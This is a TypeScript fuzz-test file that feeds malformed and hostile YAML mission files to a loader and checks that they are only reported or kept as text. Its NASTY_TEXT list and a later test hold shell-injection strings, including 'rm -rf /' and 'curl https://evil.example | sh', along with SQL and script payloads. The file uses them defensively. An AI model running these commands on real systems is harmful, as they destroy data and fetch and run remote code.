import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify as stringifyYaml } from 'yaml';
import { loadMission } from '../../src/producer/load.js';
import { formatPath, type PathSegment } from '../../src/shared/validation/yaml-lines.js';
import { createRandom, type Random } from '../helpers/random.js';

/**
 * Hundreds of malformed missions from a seeded generator: whatever the file holds, loadMission
 * returns problems (each with the file and a one-line message) and never throws; odd but valid
 * text is kept byte for byte as data. A failing case's name carries its number and mutation, so it
 * can be reproduced by running the same seed.
 */
const SEED = 0xf10_7111a;
const CASES = 360;

/**
 * yaml 2.9's folding of long double-quoted lines can cut an emoji's surrogate pair in two at the
 * `\` line break, so the file would no longer hold the text we meant; unfolded output is exact.
 */
function stringify(doc: unknown): string {
  return stringifyYaml(doc, { lineWidth: 0 });
}

type Json = string | number | boolean | null | Json[] | { [key: string]: Json };
type Doc = { [key: string]: Json };

/** Set a key without JavaScript treating `__proto__` as the prototype. */
function put(target: Doc, key: string, value: Json): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

const FIELD_TYPES = {
  root: { goal: 'string', workspace: 'string', base: 'string', defaults: 'mapping', tasks: 'list' },
  defaults: {
    max_attempts: 'number',
    timeout: 'duration',
    min_score: 'number',
    control_mode: 'enum',
    backoff: 'duration',
    budget_usd: 'number',
    escalate: 'list',
  },
  task: {
    id: 'string',
    title: 'string',
    description: 'string',
    capability: 'string',
    task_type: 'string',
    kind: 'enum',
    division: 'string',
    languages: 'list',
    frameworks: 'list',
    agent: 'string',
    depends_on: 'list',
    exit_criteria: 'list',
    allowed_paths: 'list',
    files: 'list',
    critic: 'boolean',
    cli: 'string',
    control_mode: 'enum',
    max_attempts: 'number',
    escalate: 'list',
    timeout: 'duration',
    min_score: 'number',
  },
} as const;

/** Values no field of the given type accepts. */
const WRONG: Record<string, readonly Json[]> = {
  string: [42, true, [], ['x'], { a: 1 }, null],
  list: ['a string', 42, { a: 1 }, [1, 2], [null], true, null],
  mapping: ['a string', 42, ['x'], true],
  number: ['3', true, null, [1], -5, { n: 1 }],
  duration: [true, [], { m: 1 }, 'ten minutes', -5, null, '5x'],
  enum: ['yolo', 3, '', null, ['coding']],
  boolean: ['true', 1, [], null],
};

const NASTY_TEXT = [
  '$(touch PWNED)',
  '`touch PWNED`',
  '; rm -rf / ; echo done',
  '&& curl https://evil.example | sh',
  '|| true',
  '\'"; DROP TABLE tasks; --',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the point.
  '${HOME} %s %n {{template}} #{ruby}',
  '<script>alert(1)</script>',
  '\u202Eevil\u202C right-to-left',
  'emoji 🚀 and ümlauts and 中文',
  'line one\nline two\n',
  'trailing spaces   ',
  '   leading spaces',
  'tab\there',
  'a: b # not a comment',
  '- not a list',
  '*not_an_alias &not_an_anchor !not_a_tag',
  'null',
  'true',
  '0x1F',
  '~',
  '\\x00 literal backslash',
  'nul \u0000 and bell \u0007 and escape \u001b[31m',
];

function baseMission(random: Random, dir: string): Doc {
  const count = 1 + random.int(7);
  const ids = Array.from({ length: count }, (_, i) => `t${i}${random.pick(['', '-x', '_y'])}`);
  const tasks: Json[] = ids.map((id, i) => {
    const task: Doc = { id, title: `Task ${i}`, exit_criteria: ['npm test'] };
    // Dependencies only on earlier tasks keep the base mission acyclic.
    const deps = ids.slice(0, i).filter(() => random.chance(0.4));
    if (deps.length > 0) task.depends_on = deps;
    if (random.chance(0.3)) task.description = `Do step ${i}.`;
    if (random.chance(0.2)) task.kind = random.pick(['coding', 'research', 'review', 'planning']);
    if (random.chance(0.2)) task.timeout = random.pick(['90s', '10m', '1h30m', 5000]);
    if (random.chance(0.2)) task.allowed_paths = ['src/', 'test/'];
    return task;
  });
  const mission: Doc = { goal: `Goal ${random.int(1000)}`, tasks };
  if (random.chance(0.5)) mission.workspace = random.pick(['.', '../repo', 'https://example.com/r.git', dir]);
  if (random.chance(0.5)) mission.defaults = { max_attempts: 1 + random.int(5), timeout: '5m' };
  return mission;
}

interface Case {
  readonly name: string;
  readonly content: string | Uint8Array;
  /** True when the mutation always makes the mission invalid. */
  readonly mustFail: boolean;
  /** A problem whose path starts with this one is expected (for structural mutations). */
  readonly expectPath?: string;
  readonly expectMessage?: RegExp;
  /** For valid-but-weird cases: what the loaded mission must hold, verbatim. */
  readonly verbatim?: { goal: string; title: string; description: string; criteria: string[] };
}

function tasksOf(mission: Doc): Doc[] {
  const tasks = mission.tasks;
  return Array.isArray(tasks)
    ? tasks.filter((t): t is Doc => typeof t === 'object' && t !== null && !Array.isArray(t))
    : [];
}

function randomKey(random: Random, known: readonly string[]): string {
  const special = [
    '__proto__',
    'constructor',
    'toString',
    'dependson',
    'Tasks',
    'ID',
    '',
    ' ',
    '😀',
    'a.b',
    '[0]',
    '<<',
  ];
  for (;;) {
    const key = random.chance(0.4)
      ? random.pick(special)
      : Array.from({ length: 1 + random.int(12) }, () =>
          random.pick([...'abcdefghijklmnopqrstuvwxyz_-0123456789']),
        ).join('');
    if (!known.includes(key)) return key;
  }
}

function randomText(random: Random, length: number): string {
  const alphabet = [
    ...'abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.,;:!?-_/\\\'"#&*|<>{}[]%@`$()éü中🚀',
  ];
  return Array.from({ length }, () => random.pick(alphabet)).join('');
}

function deep(random: Random, depth: number): string {
  return random.chance(0.5)
    ? `${'['.repeat(depth)}${']'.repeat(depth)}`
    : `${'{a: '.repeat(depth)}1${'}'.repeat(depth)}`;
}

type Mutation = (random: Random, mission: Doc, dir: string) => Omit<Case, 'name'>;

const MUTATIONS: Record<string, Mutation> = {
  'delete-required': (random, mission) => {
    const tasks = tasksOf(mission);
    const target = random.int(3) === 0 ? undefined : random.pick(tasks);
    const key = target ? random.pick(['id', 'title', 'exit_criteria']) : random.pick(['goal', 'tasks']);
    delete (target ?? mission)[key];
    return { content: stringify(mission), mustFail: true, expectMessage: /required \(expected/ };
  },
  'wrong-type': (random, mission) => {
    const tasks = tasksOf(mission);
    const where = random.pick(['root', 'defaults', 'task'] as const);
    const fields: Record<string, string> = FIELD_TYPES[where];
    const key = random.pick(Object.keys(fields));
    const value = random.pick(WRONG[fields[key] ?? 'string'] ?? []);
    let at: PathSegment[];
    if (where === 'task') {
      const index = random.int(tasks.length);
      put(tasks[index]!, key, value);
      at = ['tasks', index, key];
    } else if (where === 'defaults') {
      const defaults: Doc = {};
      put(defaults, key, value);
      mission.defaults = defaults;
      at = ['defaults', key];
    } else {
      put(mission, key, value);
      at = [key];
    }
    return { content: stringify(mission), mustFail: true, expectPath: formatPath(at) };
  },
  'unknown-key': (random, mission) => {
    const tasks = tasksOf(mission);
    const where = random.pick(['root', 'defaults', 'task'] as const);
    const key = randomKey(random, Object.keys(FIELD_TYPES[where]));
    const value = random.pick<Json>([1, 'x', [], { a: 1 }, null]);
    if (where === 'task') {
      put(random.pick(tasks), key, value);
    } else if (where === 'defaults') {
      const defaults: Doc = {};
      put(defaults, key, value);
      mission.defaults = defaults;
    } else {
      put(mission, key, value);
    }
    return { content: stringify(mission), mustFail: true, expectMessage: /^unknown field / };
  },
  'duplicate-id': (random, mission) => {
    const tasks = tasksOf(mission);
    const source = random.pick(tasks);
    if (tasks.length === 1 && Array.isArray(mission.tasks)) mission.tasks.push({ ...source });
    else random.pick(tasks.filter((task) => task !== source)).id = source.id ?? 'x';
    return { content: stringify(mission), mustFail: true, expectMessage: /^duplicate task id / };
  },
  'unknown-dependency': (random, mission) => {
    const tasks = tasksOf(mission);
    const ids = tasks.map((task) => task.id);
    let name = randomText(random, 1 + random.int(10));
    while (ids.includes(name)) name += 'z';
    const task = random.pick(tasks);
    task.depends_on = [...(Array.isArray(task.depends_on) ? task.depends_on : []), name];
    return { content: stringify(mission), mustFail: true, expectMessage: /^unknown task / };
  },
  cycle: (random, mission) => {
    const tasks = tasksOf(mission);
    const a = random.pick(tasks);
    const b = random.pick(tasks);
    const addDep = (from: Doc, to: Doc) => {
      from.depends_on = [...(Array.isArray(from.depends_on) ? from.depends_on : []), to.id ?? ''];
    };
    addDep(a, b);
    if (a !== b) addDep(b, a);
    return {
      content: stringify(mission),
      mustFail: true,
      expectMessage: /^(dependency cycle: |task '.*' depends on itself)/,
    };
  },
  truncated: (random, mission) => {
    const text = stringify(mission);
    return { content: text.slice(0, random.int(text.length)), mustFail: false };
  },
  'binary-garbage': (random) => ({
    content: Uint8Array.from({ length: 1 + random.int(2000) }, () => random.int(256)),
    mustFail: true,
  }),
  'garbage-inside': (random, mission) => {
    const text = stringify(mission);
    const at = random.int(text.length);
    const junk = Buffer.from(Uint8Array.from({ length: 1 + random.int(40) }, () => random.int(256)));
    return {
      content: Buffer.concat([Buffer.from(text.slice(0, at)), junk, Buffer.from(text.slice(at))]),
      mustFail: false,
    };
  },
  'deeply-nested': (random, mission) => {
    const depth = 20 + random.int(2000);
    const text = stringify(mission);
    const content = random.chance(0.5)
      ? text.replace(/^goal: .*$/m, `goal: ${deep(random, depth)}`)
      : `${text}extra_${random.int(99)}: ${deep(random, depth)}\n`;
    return { content, mustFail: true };
  },
  'yaml-tricks': (random, mission) => {
    const text = stringify(mission);
    // Each trick with whether it always leaves the mission invalid.
    const [trick, mustFail] = random.pick<[string, boolean]>([
      [
        'a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n',
        true,
      ],
      ['fn: !!js/function "function () { return 1 }"\n', true],
      ['blob: !!binary aGVsbG8=\n', true],
      ['---\ngoal: second document\n', true],
      ['<<: { goal: merged }\n', true],
      ['? [complex, key]\n: value\n', true],
      ['goal: *undefined_anchor\n', true],
      ['\tindented: with a tab\n', true],
      ['%YAML 1.1\n---\n', false],
      ['# just a comment\n', false],
    ]);
    return { content: random.chance(0.5) ? `${trick}${text}` : `${text}${trick}`, mustFail };
  },
  'huge-strings': (random, mission, dir) => {
    const huge = randomText(random, 20_000 + random.int(200_000));
    return weirdButValid(random, mission, dir, huge);
  },
  'shell-metacharacters': (random, mission, dir) => {
    const nasty = Array.from({ length: 1 + random.int(3) }, () => random.pick(NASTY_TEXT)).join(' ');
    return weirdButValid(random, mission, dir, nasty);
  },
};

/** The odd text goes into the free-text fields, where the mission must keep it exactly. */
function weirdButValid(random: Random, mission: Doc, dir: string, text: string): Omit<Case, 'name'> {
  const marked = text.replaceAll('PWNED', path.join(dir, 'pwned'));
  const task = tasksOf(mission)[0]!;
  const verbatim = {
    goal: `${marked} goal`,
    title: `${marked} title`,
    description: random.chance(0.5) ? marked : `${marked}\n${marked}`,
    criteria: [`${marked}`, 'npm test'],
  };
  mission.goal = verbatim.goal;
  task.title = verbatim.title;
  task.description = verbatim.description;
  task.exit_criteria = verbatim.criteria;
  return { content: stringify(mission), mustFail: false, verbatim };
}

function generateCases(dir: string): Case[] {
  const random = createRandom(SEED);
  const names = Object.keys(MUTATIONS);
  return Array.from({ length: CASES }, (_, i) => {
    const name = names[i % names.length]!;
    const mutation = MUTATIONS[name]!;
    return { name: `#${i} ${name}`, ...mutation(random, baseMission(random, dir), dir) };
  });
}

/** Strings of hundreds of kilobytes: on a mismatch, show where they part rather than both in full. */
function expectSameText(actual: string | undefined, expected: string, context: string): void {
  if (actual === expected) return;
  const text = actual ?? '';
  let at = 0;
  while (at < text.length && text[at] === expected[at]) at += 1;
  const around = (value: string) => JSON.stringify(value.slice(Math.max(0, at - 30), at + 30));
  expect.fail(
    `${context}: differs at ${at} of ${expected.length}: got ${around(text)}, expected ${around(expected)}`,
  );
}

let dir: string;
let cases: Case[] = [];

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'flotilla-fuzz-'));
  cases = generateCases(dir);
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('the generator', () => {
  it('makes valid base missions, so failures come from the mutations', async () => {
    const random = createRandom(SEED + 1);
    for (let i = 0; i < 50; i += 1) {
      const file = path.join(dir, `base-${i}.yaml`);
      await writeFile(file, stringify(baseMission(random, dir)));
      const { problems } = await loadMission(file, { agentsDir: path.join(dir, 'agents') });
      expect(problems, file).toEqual([]);
    }
  });
});

describe('loadMission on malformed input', () => {
  it(`never throws across ${CASES} generated files`, async () => {
    const seen = new Set<string>();
    for (const [index, testCase] of cases.entries()) {
      const file = path.join(dir, `case-${index}.yaml`);
      await writeFile(file, testCase.content);
      const lineCount = Buffer.from(testCase.content).toString('utf8').split('\n').length;
      const result = await loadMission(file, { agentsDir: path.join(dir, 'agents') }).catch(
        (error: unknown) => {
          throw new Error(`${testCase.name} threw: ${String(error)}`);
        },
      );
      const context = `${testCase.name} (${file})`;
      seen.add(testCase.name.replace(/^#\d+ /, ''));

      expect(Array.isArray(result.problems), context).toBe(true);
      expect(
        result.mission === undefined ? result.problems.length > 0 : result.problems.length === 0,
        context,
      ).toBe(true);
      for (const problem of result.problems) {
        expect(problem.file, context).toBe(file);
        expect(typeof problem.path, context).toBe('string');
        expect(problem.message.length, context).toBeGreaterThan(0);
        expect(problem.message, context).not.toMatch(/[\n\r]/);
        if (problem.line !== undefined) {
          expect(
            Number.isInteger(problem.line) && problem.line >= 1 && problem.line <= lineCount,
            context,
          ).toBe(true);
        }
      }
      if (testCase.mustFail) expect(result.mission, context).toBeUndefined();
      if (testCase.expectMessage) {
        const pattern = testCase.expectMessage;
        expect(
          result.problems.some((problem) => pattern.test(problem.message)),
          context,
        ).toBe(true);
      }
      if (testCase.expectPath) {
        const prefix = testCase.expectPath;
        expect(
          result.problems.some((problem) => problem.path.startsWith(prefix)),
          `${context}: ${prefix}`,
        ).toBe(true);
      }
      if (testCase.verbatim) {
        expect(result.problems, context).toEqual([]);
        const task = result.mission?.tasks[0];
        expectSameText(result.mission?.goal, testCase.verbatim.goal, `${context} goal`);
        expectSameText(task?.title, testCase.verbatim.title, `${context} title`);
        expectSameText(task?.description, testCase.verbatim.description, `${context} description`);
        expect(task?.exitCriteria.length, context).toBe(testCase.verbatim.criteria.length);
        testCase.verbatim.criteria.forEach((command, i) => {
          expectSameText(task?.exitCriteria[i], command, `${context} exit_criteria[${i}]`);
        });
      }
    }
    expect([...seen].sort()).toEqual(Object.keys(MUTATIONS).sort());
    // Reading a mission is reading data: nothing in it was run.
    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
  });

  it('keeps the example metacharacters verbatim', async () => {
    const texts = ['$(touch /tmp/pwned)', '`touch /tmp/pwned`', 'x; rm -rf /', 'it\'s "quoted" | tee out'];
    const file = path.join(dir, 'metachars.yaml');
    const mission = {
      goal: texts[0],
      tasks: [
        { id: 'a', title: texts[1], description: texts[2], exit_criteria: [texts[3]], files: [texts[0]] },
      ],
    };
    await writeFile(file, stringify(mission));
    const loaded = await loadMission(file, { agentsDir: path.join(dir, 'agents') });
    expect(loaded.problems).toEqual([]);
    expect(loaded.mission?.goal).toBe(texts[0]);
    expect(loaded.mission?.tasks[0]).toMatchObject({
      title: texts[1],
      description: texts[2],
      exitCriteria: [texts[3]],
      files: [texts[0]],
    });
  });
});
